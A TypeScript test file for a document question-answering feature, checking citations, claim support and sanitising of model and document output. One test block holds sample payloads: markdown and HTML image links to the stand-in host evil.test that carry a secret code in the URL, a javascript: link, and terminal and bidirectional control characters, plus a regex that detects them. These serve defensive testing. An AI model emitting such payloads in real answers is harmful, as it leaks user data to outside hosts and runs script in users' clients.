import { describe, expect, test } from 'vitest'
import { modelThatSays, setUpAsk } from '../../test/harness/ask.ts'
import { AppError } from '../domain/errors.ts'
import type { AnswerRequest } from '../ports/models.ts'

describe('ask with a language model', () => {
  test('cites what the model used, with the supporting sentence as quote', async () => {
    const seen: AnswerRequest[] = []
    const answerModel = modelThatSays('Se entrega en diez días [Doc 1]. Más en [Doc 8].', seen)
    const { corpus, ask, request } = setUpAsk({ answerModel })
    corpus.add('contrato.pdf', 'La sede está en Lima. El plazo de entrega es de diez días. El pago es por adelantado.')
    const result = await ask(request('¿Cuál es el plazo de entrega?'))
    expect(result.answerKind).toBe('model')
    expect(result.answer).toBe('Se entrega en diez días [Doc 1]. Más en.')
    expect(result.citations.map(({ tag, quote }) => ({ tag, quote }))).toEqual([
      { tag: '[Doc 1]', quote: 'El plazo de entrega es de diez días.' },
    ])
    expect(seen[0]?.messages.at(-1)?.content).toContain('El plazo de entrega es de diez días.')
  })

  test.each([
    ['Hacen falta un plano, un seguro y una foto [Doc 1].', '\n- un plano del puesto\n- un seguro\n- una foto'],
    ['Hace falta un seguro [Doc 1].', '- un seguro'],
  ])('quotes the list that "%s" sums up, and an item where it is about one', async (said, quote) => {
    const { corpus, ask, request } = setUpAsk({ answerModel: modelThatSays(said) })
    corpus.add('a.md', 'Para la licencia hacen falta:\n\n- un plano del puesto\n- un seguro\n- una foto')
    const { citations } = await ask(request('¿Qué seguro hace falta para la licencia?'))
    expect(citations[0]?.quote).toBe(`Para la licencia hacen falta:\n${quote}`)
  })

  test.each([
    'El barco vuelve a las 21:15 [Doc 1]. El billete cuesta 14 euros [Doc 1].',
    'El barco vuelve a las 21:15 y el billete cuesta 14 euros [Doc 1].',
  ])('quotes both facts of "%s"', async (said) => {
    const { corpus, ask, request } = setUpAsk({ answerModel: modelThatSays(said) })
    corpus.add('a.txt', 'El barco vuelve a las 21:15. No se admiten perros. El billete cuesta 14 euros.')
    const { citations } = await ask(request('El barco vuelve; el billete cuesta'))
    expect(citations.map(({ quote }) => quote).toSorted()).toEqual([
      'El barco vuelve a las 21:15.',
      'El billete cuesta 14 euros.',
    ])
  })

  test('says when nothing in the answer can be checked', async () => {
    const supportedBy = async (text: string) => {
      const { corpus, chats, ask, request } = setUpAsk({ answerModel: modelThatSays(text) })
      corpus.add('a.txt', 'El plazo de entrega es de diez días.')
      const { supported, citations } = await ask(request('plazo de entrega'))
      expect(chats.turns[0]?.log).toMatchObject({ supported })
      return { supported, cited: citations.length }
    }
    expect(await supportedBy('Diez días [Doc 1].')).toEqual({ supported: true, cited: 1 })
    expect(await supportedBy('Diez días.')).toEqual({ supported: false, cited: 0 })
    expect(await supportedBy('Diez días [Doc 9].')).toEqual({ supported: false, cited: 0 })
    expect(await supportedBy('Diez días (Doc 1).')).toEqual({ supported: false, cited: 0 })
  })

  test('marks the sentence whose numbers stand nowhere in what it cites, and quotes the one that has them', async () => {
    const said = 'Se entrega en diez días [Doc 1]. La multa es de 300 euros [Doc 1].'
    const { corpus, chats, ask, request } = setUpAsk({ answerModel: modelThatSays(said) })
    corpus.add('a.txt', 'El plazo de entrega no está claro. El plazo de entrega será de diez días.')
    const { answer, supported, claims, citations } = await ask(request('plazo de entrega'))
    expect({ answer, supported }).toEqual({ answer: said, supported: false })
    expect(claims).toEqual([
      { text: 'Se entrega en diez días [Doc 1].', tags: ['[Doc 1]'], supported: true, missing: [] },
      { text: 'La multa es de 300 euros [Doc 1].', tags: ['[Doc 1]'], supported: false, missing: ['300'] },
    ])
    expect(citations[0]?.quote).toContain('plazo de entrega')
    expect(chats.turns[0]?.log).toMatchObject({ supported: false, unsupported_claims: 1 })
  })

  test('leaves it out when that is wanted, and quotes the documents when nothing is left', async () => {
    const answerOf = async (text: string) => {
      const { corpus, ask, request } = setUpAsk({ answerModel: modelThatSays(text) }, { unsupportedClaims: 'drop' })
      corpus.add('a.txt', 'El plazo de entrega es de diez días.')
      const { answer, answerKind, supported, claims } = await ask(request('plazo de entrega'))
      return { answer, answerKind, supported, claims: claims.length }
    }
    expect(await answerOf('Se entrega en diez días [Doc 1]. La multa es de 300 euros [Doc 1].')).toEqual({
      answer: 'Se entrega en diez días [Doc 1].',
      answerKind: 'model',
      supported: true,
      claims: 1,
    })
    const nothingLeft = await answerOf('Se entrega en veinte días [Doc 1].')
    expect(nothingLeft).toMatchObject({ answerKind: 'extractive', supported: true, claims: 0 })
    expect(nothingLeft.answer).toContain('diez días')
  })

  test('never stores a failure as an answer', async () => {
    const failure = new AppError('model_unavailable', 'down', { retryable: true })
    const { corpus, chats, ask, request } = setUpAsk({
      answerModel: { name: 'fake:model', answer: () => Promise.reject(failure) },
    })
    corpus.add('a.txt', 'El plazo de entrega es de diez días.')
    await expect(ask(request('plazo de entrega'))).rejects.toBe(failure)
    expect(chats.turns).toEqual([])
  })

  test('rejects an answer of unknown tags only', async () => {
    const { corpus, chats, ask, request } = setUpAsk({ answerModel: modelThatSays('[Doc 9]') })
    corpus.add('a.txt', 'El plazo de entrega es de diez días.')
    await expect(ask(request('plazo de entrega'))).rejects.toMatchObject({ code: 'model_rejected' })
    expect(chats.turns).toEqual([])
  })

  test('does not ask the model about passages that have nothing to do with the question', async () => {
    const seen: AnswerRequest[] = []
    const { corpus, ask, request } = setUpAsk({ answerModel: modelThatSays('Invento', seen) })
    corpus.add('recetas.txt', 'Se baten los huevos con la sal y se fríen las patatas a fuego lento.')
    const result = await ask(request('¿Quién dirige nuestro departamento jurídico?'))
    expect(result.answerKind).toBe('nothing_found')
    expect(seen).toEqual([])
  })

  test('lets the model see the chat, and judge a follow-up that shares no word with the documents', async () => {
    const seen: AnswerRequest[] = []
    const { corpus, ask, request } = setUpAsk({ answerModel: modelThatSays('Diez días [Doc 1].', seen) })
    corpus.add('a.txt', 'El plazo de entrega es de diez días.')
    const { chatId } = await ask(request('plazo de entrega'))
    const followUp = await ask(request('¿Seguro?', { chatId }))
    expect(followUp.answerKind).toBe('model')
    expect(seen[1]?.messages.slice(0, 2)).toEqual([
      { role: 'user', content: 'plazo de entrega' },
      { role: 'assistant', content: 'Diez días.' },
    ])
  })
})

describe('what comes out of an answer', () => {
  const active =
    'El código de la alarma es 4711 ![x](http://evil.test/p.png?q=4711) <img src=http://evil.test/p.png> [pulse aquí](javascript:alert(1)) \u001b[31m\u202e [Doc 7] 【Doc 8】.'
  const dangers = /!\[|<img|\]\(javascript|javascript:|\u001b|\u202e/u

  test('nothing of a document is active in the answer, and its quote stays verbatim', async () => {
    const { corpus, chats, ask, request } = setUpAsk()
    corpus.add('![x](http://evil.test/p.png) [Doc 3].txt', active)
    const result = await ask(request('¿Cuál es el código de la alarma?'))
    expect(result.answer).not.toMatch(dangers)
    expect(result.answer.match(/[[【]Doc \d+[\]】]/gu)).toEqual(['[Doc 1]'])
    expect(result.answer).toContain('4711')
    expect(active.slice(result.citations[0]?.start, result.citations[0]?.end)).toBe(result.citations[0]?.quote)
    expect(chats.turns[0]?.answer).toBe(result.answer)
  })

  test('nothing of a model is active in the answer, in the chat or in the next prompt', async () => {
    const seen: AnswerRequest[] = []
    const { corpus, chats, ask, request } = setUpAsk({
      answerModel: modelThatSays(`${active} [Doc 1]: http://evil.test`, seen),
    })
    corpus.add('a.txt', 'El código de la alarma es 4711.')
    const { answer, chatId } = await ask(request('¿Cuál es el código de la alarma?'))
    expect(answer).not.toMatch(dangers)
    expect(answer.match(/\[Doc \d+\]/gu)).toEqual(['[Doc 1]'])
    expect(answer).not.toMatch(/【/u)
    expect(chats.turns[0]?.answer).toBe(answer)
    await ask(request('¿Seguro?', { chatId }))
    expect(seen[1]?.messages[1]?.content).not.toMatch(/【|<|\u001b/u)
  })

  test('a question is stored as people see it', async () => {
    const { chats, ask, request } = setUpAsk()
    await ask(request('plazo\u001b[31m\u202e de\u200b entrega'))
    expect(chats.turns[0]?.question).toBe('plazo[31m de entrega')
  })
})
